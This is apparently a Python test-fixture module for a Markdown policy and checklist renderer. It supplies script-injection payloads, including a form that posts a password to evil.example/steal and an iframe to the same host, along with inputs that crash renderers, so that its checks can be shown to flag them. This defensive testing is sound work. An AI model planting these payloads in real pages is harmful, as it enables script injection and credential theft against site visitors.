"""Hostile content: every vector an editor could try, as real policy and checklist files.

``VECTORS`` are the payloads of raw HTML, script URLs and attribute lists that tried to put
script on the pages; ``PATHOLOGICAL`` the texts under 1 MiB that hung or crashed the
renderers; ``TRAPS`` the Markdown that renders otherwise than it reads. ``policy_file``
writes one policy with a payload in one field, so each test names the file and line.
"""

from __future__ import annotations

from pathlib import Path

VECTORS = {
    "script": ("<script>window.pwned = 'script'</script>", "raw HTML <script>"),
    "img-onerror": ('<img src="x" onerror="window.pwned = \'img\'">', "raw HTML <img>"),
    "javascript-link": ("[Read the terms](javascript:window.pwned='link')", "link to 'javascript:'"),
    "data-link": ("[Read the terms](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                  "link to 'data:'"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "raw HTML <iframe>"),
    "form": ('<form action="https://evil.example/steal"><input name="password"></form>', "raw HTML <form>"),
    "style": ("<style>body { display: none }</style>", "raw HTML <style>"),
    "attr-list": ('Hover over this paragraph. {: onmouseover="window.pwned = \'attr\'" }',
                  "attribute list sets 'onmouseover'"),
}
"""name → (payload, what ``policy check`` must say about it)."""

PATHOLOGICAL = {
    "brackets": ("[" * 200_000, "characters long"),
    "guillemets": ("‹" * 200_000, "characters long"),
    "divs": ("<div>\n" * 15_000, "raw HTML <div>"),
    "nested-list": ("\n".join("    " * i + "- item" for i in range(600)), "nested"),
}
"""name → (text, what ``policy check`` must say): each hung or crashed a build before."""

TRAPS = {
    "underscore-in-table": ("| Cookie | Purpose |\n|---|---|\n| _gac_<property-id> | Analytics |",
                            ["<property-id> looks like an HTML tag", "_gac_ in a table cell"]),
    "lettered-paragraphs": ("We may share it:\n(a) with our clients;\n(b) with the courts.",
                            ["lettered paragraph"]),
}

FIELDS = ("body", "guidance", "explanation")
"""The Markdown fields; a summary (like a title) is plain text, shown as written."""

_POLICY = """\
# A policy written by someone who should not be trusted.
id: {id}
title: Hostile policy
organisation: Test Org
jurisdiction: New Zealand
language: en-NZ
contact:
  role: Privacy Officer
  email: privacy@example.org
clauses:
  - id: intro
    title: Introduction
    summary: |
{summary}
    body: |
{body}
    training:
      guidance: |
{guidance}
      questions:
        - id: {id}-q
          type: single
          prompt: Which one is right?
          choices:
            - id: right
              text: The right one
            - id: wrong
              text: The wrong one
          answer: right
          explanation: |
{explanation}
  - id: contact
    title: Contact us
    body: Write to us.
    contact: true
"""

CLEAN = {"body": "We keep your information safe.", "summary": "We keep it safe.",
         "guidance": "Lock your screen.", "explanation": "The right one is right."}


def _indent(text: str, spaces: int) -> str:
    return "\n".join(" " * spaces + line if line else "" for line in text.split("\n"))


def policy_text(pid: str = "hostile", **fields: str) -> str:
    """A policy file with ``fields`` (body, summary, guidance, explanation) in block scalars."""
    values = {**CLEAN, **fields}
    return _POLICY.format(id=pid, summary=_indent(values["summary"], 6), body=_indent(values["body"], 6),
                          guidance=_indent(values["guidance"], 8),
                          explanation=_indent(values["explanation"], 12))


def policy_file(folder: Path, name: str, field: str, payload: str) -> tuple[Path, int]:
    """Write ``folder/<name>.yaml`` with ``payload`` in ``field``; return the file and the payload's line."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    text = policy_text(name, **{field: payload})
    path.write_text(text, encoding="utf-8")
    first = payload.split("\n")[0][:40]
    line = next(n for n, ln in enumerate(text.split("\n"), 1) if first in ln)
    return path, line


CHECKLIST = """\
id: hostile-staff
title: Hostile staff
audience: Everyone
description: |
{description}
policy: {policy}
pass_mark: 80
items:
  - id: read-intro
    kind: read
    clauses: [intro]
"""


def checklist_file(folder: Path, policy: str, payload: str) -> tuple[Path, int]:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "hostile-staff.yaml"
    text = CHECKLIST.format(description=_indent(payload, 2), policy=policy)
    path.write_text(text, encoding="utf-8")
    first = payload.split("\n")[0][:40]
    return path, next(n for n, ln in enumerate(text.split("\n"), 1) if first in ln)
